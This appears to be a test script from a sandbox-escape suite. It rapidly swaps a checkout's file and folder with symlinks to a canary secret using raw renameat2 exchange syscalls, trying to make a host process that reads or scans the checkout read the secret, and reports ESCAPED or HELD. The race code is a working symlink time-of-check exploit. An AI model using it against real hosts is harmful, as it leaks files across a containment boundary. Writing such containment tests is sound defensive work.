#!/usr/bin/env python3
# class: filesystem
# judge: host
# tries: swapping a plain file and folder of the checkout against links to the secret some thousand times per second for 8 s (check-then-open races of a host that reads or scans meanwhile)
# must: HELD inside; harness lets the host read, scan or snapshot the checkout during it: never CANARY text in what it took
# control: bare
import ctypes, errno, os, platform, signal, sys, time
def end(ok, why):
    sys.stdout.flush(); os.write(1, (("ESCAPED: " if ok else "HELD: ") + " ".join(str(why).split())[:400] + "\n").encode("utf-8", "replace")); os._exit(0)
signal.signal(signal.SIGALRM, lambda *a: end(False, "VACUOUS: own time limit")); signal.alarm(18)
E = os.environ.get
def need(*names):
    for n in names:
        if not E(n): end(False, "VACUOUS: %s not set" % n)
    return E(names[0])
libc = ctypes.CDLL(None, use_errno=True); libc.syscall.restype = ctypes.c_long
def nr(x86, arm): return x86 if platform.machine() == "x86_64" else arm
def sc(n, *a):
    ctypes.set_errno(0); r = libc.syscall(ctypes.c_long(n), *[ctypes.c_long(x) if isinstance(x, int) else x for x in a]); return r, ctypes.get_errno()
def en(e): return errno.errorcode.get(e, str(e))
def child(fn, wait=6):
    """runs fn in a forked child; its returned text, or how it died"""
    r, w = os.pipe(); p = os.fork()
    if p == 0:
        signal.alarm(int(wait)); signal.signal(signal.SIGALRM, signal.SIG_DFL); os.close(r)
        try: t = fn()
        except BaseException as e: t = "error %s" % e
        os.write(w, str(t).encode()); os._exit(0)
    os.close(w); d = b""
    while True:
        b = os.read(r, 65536)
        if not b: break
        d += b
    os.close(r); _, st = os.waitpid(p, 0)
    return d.decode("utf-8", "replace") if d else ("killed by signal %d" % os.WTERMSIG(st) if os.WIFSIGNALED(st) else "no answer")
def host_visible(): return bool(E("HOST_PID")) and os.path.isdir("/proc/%s/task" % E("HOST_PID"))
# --- the attempt ---
f, d = need("CANARY_SECRET_FILE"), need("CANARY_DIR"); b = "race"
os.makedirs(b, exist_ok=True); n = 0; hit = 0; stop = time.time() + 8
for x in ("plain", "dir", "lfile", "ldir"):
    p = b + "/" + x
    if os.path.islink(p) or os.path.isfile(p): os.unlink(p)
open(b + "/plain", "w").write("harmless\n"); os.makedirs(b + "/dir", exist_ok=True); open(b + "/dir/" + os.path.basename(f), "w").write("harmless\n")
os.symlink(f, b + "/lfile"); os.symlink(os.path.dirname(f), b + "/ldir"); R = nr(316, 276)
while time.time() < stop:
    for x, y in (("plain", "lfile"), ("dir", "ldir")): sc(R, -100, ("%s/%s" % (b, x)).encode(), -100, ("%s/%s" % (b, y)).encode(), 2)
    n += 1
    if n % 500 == 0:
        for x in ("plain", "lfile"):
            try: hit += open(b + "/" + x).read() != "harmless\n"
            except OSError: pass
end(hit > 0, "own reads saw the host's file %d times" % hit if hit else "%d swaps, dangling in here" % n)
